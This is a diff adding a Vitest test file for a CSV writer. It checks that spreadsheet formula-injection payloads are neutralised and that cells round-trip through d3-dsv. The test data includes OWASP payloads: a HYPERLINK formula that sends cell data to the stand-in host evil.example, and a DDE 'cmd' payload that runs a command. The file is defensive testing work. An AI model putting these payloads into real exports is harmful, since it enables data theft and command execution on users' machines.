@@ -1,0 +1,86 @@
+import { csvParseRows } from 'd3';
+import fc from 'fast-check';
+import { describe, expect, it } from 'vitest';
+import {
+  csvCell,
+  FORMULA_START,
+  guardFormula,
+  leadingNotes,
+  toCsv,
+  unguardFormula,
+} from '../../src/core/csv.js';
+import { PURPOSE_LABEL } from '../../src/core/purpose.js';
+
+/** The data rows of a file written by toCsv, parsed by d3-dsv (the label and notes skipped). */
+function parse(csv: string): string[][] {
+  return csvParseRows(csv.slice(leadingNotes(csv).end));
+}
+
+describe('toCsv (the one CSV writer)', () => {
+  it('starts every file with the purpose label, then notes, then the header', () => {
+    const csv = toCsv([{ a: 1, b: 'x' }], { notes: ['kind: test', 'parameters: {"k":1,"j":2}'] });
+    const lines = csv.split('\n');
+    expect(lines[0]).toBe(`# ${PURPOSE_LABEL}`);
+    expect(lines[1]).toBe('# kind: test');
+    // A note with commas or quotes is one quoted cell, so a spreadsheet shows it in one cell.
+    expect(lines[2]).toBe('"# parameters: {""k"":1,""j"":2}"');
+    expect(lines.slice(3)).toEqual(['a,b', '1,x', '']);
+    expect(leadingNotes(csv)).toEqual({ lines: 3, end: csv.indexOf('a,b') });
+    expect(toCsv([]).split('\n')[0]).toBe(`# ${PURPOSE_LABEL}`);
+  });
+
+  it('guards the formula payloads of the OWASP list and leaves numbers as numbers', () => {
+    const payloads = [
+      '=HYPERLINK("http://evil.example/?x="&A1,"Click")',
+      "=cmd|' /C calc'!A0",
+      '+1+1',
+      '-2+3',
+      '@SUM(1,1)',
+      '\t=1+1',
+      '\r=1+1',
+    ];
+    const csv = toCsv(payloads.map((p) => ({ v: p, n: -3.5 })));
+    const rows = parse(csv).slice(1);
+    expect(rows.map((r) => r[0])).toEqual(payloads.map((p) => `'${p}`));
+    expect(rows.map((r) => r[1])).toEqual(payloads.map(() => '-3.5'));
+    expect(csvCell(-1)).toBe('-1');
+    expect(csvCell('-1')).toBe("'-1"); // text is text, whatever it looks like
+    expect(csvCell(Number.NEGATIVE_INFINITY)).toBe("'-Infinity");
+    expect(csvCell(['=a', 'b'])).toBe("'=a;b");
+    expect(csvCell({ k: '=x' })).toBe('"{""k"":""=x""}"');
+    expect(csvCell(null)).toBe('');
+  });
+
+  it('property: no text cell starts with a formula character unguarded, and every cell round-trips through d3-dsv', () => {
+    const cell = fc.oneof(
+      fc.string({ unit: 'grapheme', maxLength: 12 }),
+      fc.string({ maxLength: 12 }),
+      fc
+        .constantFrom('=', '+', '-', '@', '\t', '\r', '\n', '"', ',', "'", '#')
+        .chain((c) => fc.string({ maxLength: 8 }).map((s) => c + s)),
+    );
+    fc.assert(
+      fc.property(
+        fc.array(fc.array(cell, { minLength: 3, maxLength: 3 }), { maxLength: 8 }),
+        (values) => {
+          const rows = values.map(([a, b, c]) => ({ a, b, c }));
+          const csv = toCsv(rows, { columns: ['a', 'b', 'c'] });
+          expect(csv.startsWith(`# ${PURPOSE_LABEL}\n`)).toBe(true);
+          const parsed = parse(csv);
+          expect(parsed[0]).toEqual(['a', 'b', 'c']);
+          expect(parsed).toHaveLength(rows.length + 1);
+          parsed.slice(1).forEach((r, i) => {
+            for (let j = 0; j < 3; j++) {
+              // Unguarded text never starts a cell with a formula character…
+              expect(FORMULA_START.test(r[j])).toBe(false);
+              // …and the cell reads back as written, less the guard.
+              expect(r[j]).toBe(guardFormula(values[i][j]));
+              expect(unguardFormula(r[j])).toBe(values[i][j]);
+            }
+          });
+        },
+      ),
+      { numRuns: 300 },
+    );
+  });
+});
